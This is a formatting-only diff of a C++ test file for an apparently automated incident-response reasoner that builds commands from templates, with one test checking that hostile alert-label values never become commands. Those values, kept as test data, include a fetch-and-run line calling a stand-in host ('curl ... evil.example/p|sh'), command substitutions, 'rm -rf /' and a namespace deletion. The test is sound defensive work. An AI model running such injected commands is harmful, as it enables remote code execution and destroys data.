@@ -196,11 +196,11 @@ TEST_F(PlaybookReasonerTest, ExpiringCertificateIsRenewedThroughCertManager) {
                            .Build();
   EXPECT_EQ(Chosen(c), "certificate-expiry");
   action::Catalog catalog;
-  catalog.templates.push_back(action::CommandTemplate{
-      "cert-manager-renew",
-      {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
-      {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
-      ""});
+  catalog.templates.push_back(
+      action::CommandTemplate{"cert-manager-renew",
+                              {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
+                              {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
+                              ""});
   c.catalog = &catalog;
   Proposal p = Propose(c);
   EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRunTemplate);
@@ -211,13 +211,14 @@ TEST_F(PlaybookReasonerTest, ExpiringCertificateIsRenewedThroughCertManager) {
 
 TEST_F(PlaybookReasonerTest, ALabelThatIsNotItsSlotsTypeYieldsAnInvestigationNeverACommand) {
   action::Catalog catalog;
-  catalog.templates.push_back(action::CommandTemplate{
-      "cert-manager-renew",
-      {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
-      {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
-      ""});
-  for (std::string hostile : std::vector<std::string>{"x; curl -s http://evil.example/p|sh", "$(reboot)", "`id`", "a\nb", "r''m -rf /",
-                              "--all", "-A", "kubectl dele''te ns prod", std::string(400, 'a')}) {
+  catalog.templates.push_back(
+      action::CommandTemplate{"cert-manager-renew",
+                              {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
+                              {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
+                              ""});
+  for (std::string hostile : std::vector<std::string>{"x; curl -s http://evil.example/p|sh", "$(reboot)",
+                                                      "`id`", "a\nb", "r''m -rf /", "--all", "-A",
+                                                      "kubectl dele''te ns prod", std::string(400, 'a')}) {
     ContextBuilder b(*shield_, vault_);
     ReasoningContext c = b.Incident("frontend", "frontend", "CertManagerCertExpirySoon", "warning")
                              .Alert({{"alertname", "CertManagerCertExpirySoon"},
